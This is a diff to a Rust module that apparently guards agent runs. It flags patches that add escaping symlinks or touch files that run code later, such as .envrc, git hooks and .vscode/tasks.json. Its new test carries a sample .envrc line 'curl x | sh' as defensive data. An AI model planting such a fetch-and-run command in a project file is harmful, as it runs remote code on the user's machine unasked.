@@ -1,7 +1,10 @@
 //! What a run's changes may not land in its project without the user
 //! saying so (`--include-protected`): symbolic links that point outside
 //! the project, through which the next tool that writes there would write
-//! anywhere the user may.
+//! anywhere the user may; and files that run code later
+//! ([`moat_grants::protected`]: git hooks, `.envrc`, a project's agent
+//! CLI settings…), which a run keeps as they were unless it was let change
+//! them (`--allow-write-protected`) — or which a worker sent back.
 //!
 //! Found in the patch itself (the run's diff, or what its worker sent
 //! back), so every way changes land is checked the same way.
@@ -28,7 +31,8 @@ const LINK_MODE: &str = "120000";
 
 impl Protected {
     /// The protected changes of `patch` (a git diff): links it makes or
-    /// changes whose target lies outside the project.
+    /// changes whose target lies outside the project, and the files of
+    /// the list of those that run code later it makes or changes.
     pub fn in_patch(patch: &[u8]) -> Vec<Protected> {
         in_patch(patch)
     }
@@ -60,6 +64,14 @@ pub(crate) fn in_patch(patch: &[u8]) -> Vec<Protected> {
                 }
             } else if let Some(path) = line.strip_prefix("+++ ") {
                 file = unquoted(path).strip_prefix("b/").map(str::to_owned);
+                if let Some(entry) = file.as_deref().and_then(moat_grants::protected::in_project) {
+                    found.push(Protected {
+                        path: file.clone().unwrap_or_default(),
+                        why: entry.why.to_owned(),
+                    });
+                    // Listed once, whatever else it is.
+                    link = false;
+                }
             } else if line.starts_with("@@") {
                 in_hunk = true;
             }
@@ -127,5 +139,38 @@ diff --git a/moved b/moved\nindex 4..5 120000\n--- a/moved\n+++ b/moved\n@@ -1 +
 diff --git a/file b/file\nnew file mode 100644\nindex 0000000..6\n--- /dev/null\n+++ b/file\n@@ -0,0 +1 @@\n+/etc\n";
         let found: Vec<String> = in_patch(patch).into_iter().map(|p| p.path).collect();
         assert_eq!(found, ["out", "sub/up", "moved"]);
+    }
+
+    #[test]
+    fn files_that_run_code_later_are_found() {
+        let patch = [
+            "diff --git a/.envrc b/.envrc",
+            "new file mode 100644",
+            "index 0000000..1",
+            "--- /dev/null",
+            "+++ b/.envrc",
+            "@@ -0,0 +1 @@",
+            "+curl x | sh",
+            "diff --git a/.vscode/tasks.json b/.vscode/tasks.json",
+            "index 1..2 100644",
+            "--- a/.vscode/tasks.json",
+            "+++ b/.vscode/tasks.json",
+            "@@ -1 +1 @@",
+            "-{}",
+            "+{ }",
+            "diff --git a/src/main.rs b/src/main.rs",
+            "index 1..2 100644",
+            "--- a/src/main.rs",
+            "+++ b/src/main.rs",
+            "@@ -1 +1 @@",
+            "-a",
+            "+b",
+        ]
+        .join("\n");
+        let patch = patch.as_bytes();
+        let found = in_patch(patch);
+        let paths: Vec<&str> = found.iter().map(|p| p.path.as_str()).collect();
+        assert_eq!(paths, [".envrc", ".vscode/tasks.json"]);
+        assert!(found[0].why.contains("direnv"), "{}", found[0].why);
     }
 }
